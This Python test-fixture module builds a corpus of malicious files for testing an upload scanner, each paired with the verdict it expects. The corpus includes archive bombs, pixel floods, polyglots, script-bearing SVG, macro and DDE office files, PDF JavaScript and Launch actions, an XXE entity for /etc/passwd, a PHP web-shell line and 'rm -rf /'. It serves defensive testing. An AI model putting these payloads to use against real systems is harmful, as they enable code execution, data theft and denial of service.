"""Files that were made to harm or to betray, made in code: what comes in, under which name, and what should be said of it."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from dataclasses import dataclass

from PIL import Image

from umay.documents.examining.packed import _HALVES
from umay.documents.tests import boxed

EICAR = _HALVES[0] + _HALVES[1]
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
REL = '<Relationships><Relationship Id="a" Type="http://x/{}" Target="{}" TargetMode="External"/></Relationships>'


@dataclass(frozen=True)
class Hostile:
    """row: of SECURITY C5. flags: that must be there. gone: no canary may be in the copy. refusal: why it is not taken."""

    row: int
    name: str
    data: bytes
    group: str
    flags: frozenset[str] = frozenset()
    refusal: str | None = None
    gone: bool = False


def zipped(files: dict[str, bytes | str], *, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as made:
        for name, content in files.items():
            made.writestr(name, content)
    return out.getvalue()


def word(more: dict[str, bytes | str] | None = None, body: str = "<w:document/>", *, folder: str = "word") -> bytes:
    return zipped(
        {
            "[Content_Types].xml": "<Types/>",
            f"{folder}/document.xml": body,
            "docProps/core.xml": f"<dc:creator>{boxed.CANARY.decode()}</dc:creator>",
            **(more or {}),
        }
    )


def pdf(body: bytes, *, packed: bytes = b"") -> bytes:
    stream = b"5 0 obj<</Type/ObjStm/Filter/FlateDecode>>stream\n" + zlib.compress(packed) + b"\nendstream endobj\n" if packed else b""
    return b"%PDF-1.7\n1 0 obj<</Author(" + boxed.CANARY + b")/Type/Catalog " + body + b">>endobj\n" + stream + b"trailer<<>>\n%%EOF\n"


def overlapping() -> bytes:
    """Return a zip whose entries all unpack the same bytes."""
    whole = bytearray(zipped({"a": bytes(50_000)}))
    head = whole.index(b"PK\x01\x02")
    one, end = bytes(whole[head : whole.index(b"PK\x05\x06")]), bytearray(whole[whole.index(b"PK\x05\x06") :])
    end[8:12] = struct.pack("<HH", 300, 300)
    end[12:16] = struct.pack("<I", len(one) * 300)
    return bytes(whole[:head]) + one * 300 + bytes(end)


def lying() -> bytes:
    """Return a zip that says of itself that it holds less than it does."""
    whole = bytearray(zipped({"a": bytes(3_000_000)}))
    for mark, at in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
        start = whole.index(mark)
        whole[start + at : start + at + 4] = struct.pack("<I", 10)
    return bytes(whole)


def nested(depth: int) -> bytes:
    data = zipped({"a.txt": b"a"})
    for _ in range(depth):
        data = zipped({"inner.zip": data})
    return data


def encrypted_zip() -> bytes:
    whole = bytearray(zipped({"a": b"secret"}))
    whole[whole.index(b"PK\x01\x02") + 8] |= 1
    whole[whole.index(b"PK\x03\x04") + 6] |= 1
    return bytes(whole)


def flood(form: str) -> bytes:
    """Return few bytes that say of themselves that they are 900 million points."""
    if form == "PNG":
        head = struct.pack(">IIBBBBB", 30_000, 30_000, 8, 2, 0, 0, 0)
        return (
            b"\x89PNG\r\n\x1a\n"
            + boxed.png_chunk(b"IHDR", head)
            + boxed.png_chunk(b"IDAT", zlib.compress(bytes(1000)))
            + boxed.png_chunk(b"IEND", b"")
        )
    if form == "WEBP":
        inner = b"WEBPVP8X" + struct.pack("<I", 10) + bytes(4) + (16_000).to_bytes(3, "little") * 2
        return b"RIFF" + struct.pack("<I", len(inner)) + inner
    if form == "GIF":
        return (
            b"GIF89a" + struct.pack("<HH", 30_000, 30_000) + b"\0\0\0,\0\0\0\0" + struct.pack("<HH", 30_000, 30_000) + b"\0\x02\x02L\x01\0;"
        )
    whole = bytearray(boxed.picture("JPEG"))
    at = whole.index(b"\xff\xc0")
    whole[at + 5 : at + 9] = struct.pack(">HH", 30_000, 30_000)
    return bytes(whole)


def moving() -> bytes:
    out = io.BytesIO()
    frames = [Image.new("RGB", (10, 10), shade) for shade in ("red", "green", "blue")]
    frames[0].save(out, "GIF", save_all=True, append_images=frames[1:], comment=boxed.CANARY)
    return out.getvalue()


def beware(row: int, name: str, data: bytes, group: str, *flags: str) -> Hostile:
    return Hostile(row, name, data, group, frozenset(flags))


def refused(row: int, name: str, data: bytes, group: str, code: str) -> Hostile:
    return Hostile(row, name, data, group, refusal=code)


def cleaned(name: str, data: bytes, group: str, *flags: str) -> Hostile:
    return Hostile(21, name, data, group, frozenset(flags), gone=True)


def bombs() -> list[Hostile]:
    deep = {f"{number}.txt": b"" for number in range(1_001)}
    return [
        refused(20, "bomb.zip", zipped({"a": bytes(101 * 1024 * 1024)}), "archive", "file.bomb"),
        refused(20, "many.zip", zipped(deep), "archive", "file.bomb"),
        refused(20, "shared.zip", overlapping(), "archive", "file.bomb"),
        refused(20, "russian-doll.zip", nested(6), "archive", "file.bomb"),
        refused(20, "sum.zip", zipped({f"{n}.zip": zipped({"a": bytes(40 * 1024 * 1024)}) for n in range(3)}), "archive", "file.bomb"),
        refused(20, "bomb.docx", word({"word/big.xml": bytes(120 * 1024 * 1024)}), "archive", "file.bomb"),
        refused(20, "bomb.xlsx", zipped({"[Content_Types].xml": b"", "xl/a.xml": bytes(110 * 1024 * 1024)}), "archive", "file.bomb"),
        refused(20, "bomb.pptx", zipped({"[Content_Types].xml": b"", "ppt/a.xml": bytes(110 * 1024 * 1024)}), "archive", "file.bomb"),
        refused(20, "bomb.gz", boxed.gzipped(bytes(110 * 1024 * 1024)), "archive", "file.bomb"),
        refused(20, "onion.gz", boxed.gzipped(b"a", 6), "archive", "file.bomb"),
        refused(20, "empty.jpg", b"", "other", "file.empty"),
        refused(20, "large.bin", bytes(50 * 1024 * 1024 + 1), "other", "file.too_large"),
        beware(20, "liar.zip", lying(), "archive", "archive", "broken"),
        beware(20, "two.zip", nested(1), "archive", "archive"),
        beware(20, "half.zip", zipped({"a": bytes(9_000)})[:-30], "archive", "broken"),
        beware(20, "locked.zip", encrypted_zip(), "archive", "encrypted"),
        beware(20, "unknown.7z", b"7z\xbc\xaf\x27\x1c" + bytes(100), "archive", "archive", "encrypted"),
        beware(20, "unknown.rar", b"Rar!\x1a\x07\x01\0" + bytes(100), "archive", "encrypted"),
        beware(20, "broken.gz", b"\x1f\x8b\x08" + bytes(30), "archive", "broken"),
        beware(20, "with-program.zip", zipped({"a.jpg": b"MZ" + bytes(90)}), "archive", "program"),
    ]


def pictures() -> list[Hostile]:
    png = boxed.picture("PNG")
    noted = (
        png[:33]
        + boxed.png_chunk(b"tEXt", b"Comment\0" + boxed.CANARY)
        + boxed.png_chunk(b"zTXt", b"a\0\0" + zlib.compress(boxed.CANARY))
        + png[33:]
    )
    jpeg = boxed.picture("JPEG")
    return [
        *(refused(21, f"flood.{form.lower()}", flood(form), "picture", "file.too_many_pixels") for form in ("PNG", "WEBP", "GIF", "JPEG")),
        *(cleaned(f"photo.{form.lower()}", boxed.picture(form), "picture") for form in ("JPEG", "PNG", "WEBP", "AVIF", "GIF", "BMP")),
        cleaned("see-through.webp", boxed.picture("WEBP", mode="RGBA"), "picture"),
        cleaned("grey.png", boxed.picture("PNG", mode="L"), "picture"),
        cleaned("notes.png", noted, "picture"),
        cleaned("moving.gif", moving(), "picture", "animated"),
        cleaned("broken-notes.jpg", jpeg.replace(b"MM\0*", b"MM\0*\xff\xff\xff\xff", 1), "picture"),
        cleaned("cut.jpg", boxed.picture("JPEG", size=(400, 400))[:-3_000], "picture"),
        cleaned("photo.heic", boxed.heic(), "picture"),
        cleaned("tail.jpg", jpeg + boxed.CANARY, "picture"),
        cleaned("with-zip.jpg", jpeg + zipped({"a": b"b"}), "picture", "polyglot"),
        cleaned("with-page.gif", boxed.picture("GIF") + b"<script>alert(1)</script>", "picture", "polyglot"),
        cleaned("with-php.png", png + b"<?php system($_GET[0]);", "picture", "polyglot"),
        beware(21, "nothing.jpg", b"\xff\xd8\xff" + bytes(200), "picture", "broken", "metadata_may_remain"),
        beware(21, "drawing.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>", "active", "script"),
        beware(21, "drawing.jpg", b"\xef\xbb\xbf <!-- a --><svg onload=alert(1)>", "active", "script", "wrong_type"),
        beware(21, "utf16.svg", "<svg onload='alert(1)'/>".encode("utf-16"), "active", "script"),
        beware(21, "page.html", b"<!DOCTYPE html><title>a</title>", "active", "script"),
        beware(21, "page.txt", b"hello <img src=x onerror=alert(1)>", "active", "script", "wrong_type"),
        beware(27, "laughs.xml", b"<?xml version='1.0'?><!DOCTYPE l [<!ENTITY a 'ha'>]><l>&a;</l>", "active", "script"),
    ]


def papers() -> list[Hostile]:
    field = "<w:document><w:instrText>DD</w:instrText><w:instrText>EAUTO c:\\\\cmd.exe</w:instrText></w:document>"
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
    return [
        cleaned("makers.docx", word(body=f'<w:ins w:author="{boxed.CANARY.decode()}"/>'), "office", "metadata_may_remain"),
        beware(22, "macro.docm", word({"word/vbaProject.bin": b"x"}), "office", "macros"),
        beware(22, "macro.docx", word({"word/vbaProject.bin": b"x"}), "office", "macros"),
        beware(22, "macro.xlsm", zipped({"[Content_Types].xml": "", "xl/workbook.xml": "", "xl/vbaProject.bin": b"x"}), "office", "macros"),
        beware(
            22,
            "remote.docx",
            word({"word/_rels/settings.xml.rels": REL.format("attachedTemplate", "http://x/y.dotm")}),
            "office",
            "remote_template",
        ),
        beware(
            22,
            "remote-ole.docx",
            word({"word/_rels/document.xml.rels": REL.format("oleObject", "mhtml:http://x")}),
            "office",
            "remote_template",
        ),
        beware(22, "asks.docx", word(body=field), "office", "dde"),
        beware(22, "asks.xlsx", zipped({"[Content_Types].xml": "", "xl/s.xml": "<f>cmd|'/c calc'!A0</f>"}), "office", "dde"),
        beware(22, "object.docx", word({"word/embeddings/oleObject1.bin": b"x"}), "office", "embedded"),
        beware(
            27, "entities.docx", word({"word/x.xml": "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>"}), "office", "remote_template"
        ),
        beware(
            22, "basic.odt", zipped({"mimetype": "application/vnd.oasis.opendocument.text", "Basic/script.xml": ""}), "office", "macros"
        ),
        beware(22, "old.doc", ole + "_VBA_PROJECT".encode("utf-16-le"), "office", "macros", "metadata_may_remain"),
        beware(22, "old.xls", ole + "EncryptedPackage".encode("utf-16-le"), "office", "encrypted"),
        beware(22, "rich.rtf", b"{\\rtf1{\\object\\objdata 0105}{\\*\\template http://x}}", "office", "embedded", "remote_template"),
        beware(28, "formula.csv", b"name,age\n=cmd|'/c calc'!A0,9\n", "text", "dde"),
        beware(22, "runs.pdf", pdf(b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>"), "pdf", "script"),
        beware(22, "escaped.pdf", pdf(b"/OpenAction<</S/J#61vaScript/J#53(x)>>"), "pdf", "script"),
        beware(22, "packed.pdf", pdf(b"", packed=b"<</S/JavaScript/JS(x)>>"), "pdf", "script"),
        beware(22, "starts.pdf", pdf(b"/AA<</O<</S/Launch/F(cmd.exe)>>>>"), "pdf", "launch"),
        beware(22, "holds.pdf", pdf(b"/Names<</EmbeddedFiles 3 0 R>>"), "pdf", "embedded"),
        beware(22, "locked.pdf", pdf(b"/Encrypt 3 0 R"), "pdf", "encrypted"),
        beware(22, "pictures.pdf", pdf(b"", packed=b"/JS is in many a picture"), "pdf", "metadata_may_remain"),
        beware(22, "cut.pdf", pdf(b"")[:-8], "pdf", "broken"),
        cleaned("maker.pdf", pdf(b""), "pdf", "metadata_may_remain"),
        beware(21, "before.pdf", b"GIF89a/*" + pdf(b""), "picture", "broken", "polyglot", "wrong_type"),
        beware(21, "both.pdf", pdf(b"") + zipped({"a": b"b"}), "pdf", "polyglot"),
    ]


def sounds() -> list[Hostile]:
    return [
        *(
            cleaned(f"film.{ending}", boxed.film(brand), group)
            for ending, brand, group in (
                ("mp4", b"isom", "video"),
                ("m4a", b"M4A ", "sound"),
                ("mov", b"qt  ", "video"),
                ("3gp", b"3gp4", "video"),
            )
        ),
        cleaned("along.mp4", boxed.film(handles=b"meta"), "video", "metadata_may_remain"),
        cleaned("voice.mp3", boxed.mp3(), "sound"),
        cleaned("voice.wav", boxed.wav(), "sound"),
        cleaned("voice.flac", boxed.flac(), "sound"),
        cleaned("voice.ogg", boxed.ogg(), "sound"),
        cleaned("voice.oga", boxed.ogg(b"vorb"), "sound"),
        beware(21, "film.ogv", boxed.ogg(b"else"), "sound", "metadata_may_remain"),
        cleaned("film.webm", boxed.webm(), "video"),
        beware(21, "live.webm", boxed.webm(live=True), "video", "metadata_may_remain"),
        beware(21, "cut.mp4", boxed.film()[:-100], "video", "broken", "metadata_may_remain"),
        beware(21, "cut.webm", boxed.webm()[:-100], "video", "broken"),
        beware(21, "film.avi", b"RIFF" + bytes(4) + b"AVI LIST" + bytes(40), "video", "metadata_may_remain"),
    ]


def wrong() -> list[Hostile]:
    return [
        beware(23, "holiday.jpg", b"MZ" + bytes(200), "program", "program", "wrong_type"),
        beware(23, "holiday.jpg.exe", b"MZ" + bytes(200), "program", "program"),
        beware(23, "foto\u202egpj.exe", b"MZ" + bytes(200), "program", "program"),
        beware(23, "tool", b"\x7fELF" + bytes(60), "program", "program"),
        beware(23, "way.lnk", b"L\0\0\0\x01\x14\x02\0" + bytes(60), "program", "program"),
        beware(23, "run.sh", b"#!/bin/sh\nrm -rf /", "program", "program"),
        beware(23, "run.bat", b"@echo off", "text", "program"),
        beware(23, "app.jar", zipped({"META-INF/MANIFEST.MF": "x"}), "program", "program"),
        beware(23, "photo.pdf", boxed.picture("PNG"), "picture", "wrong_type"),
        beware(23, "riddle.xyz", bytes(range(256)), "other", "unknown"),
        beware(24, "eicar.com", EICAR, "text", "virus_test", "program"),
        beware(24, "eicar.zip", zipped({"a.txt": EICAR}), "archive", "virus_test"),
        beware(24, "eicar.gz", boxed.gzipped(EICAR), "archive", "virus_test"),
    ]


def corpus() -> list[Hostile]:
    return [*bombs(), *pictures(), *papers(), *sounds(), *wrong()]
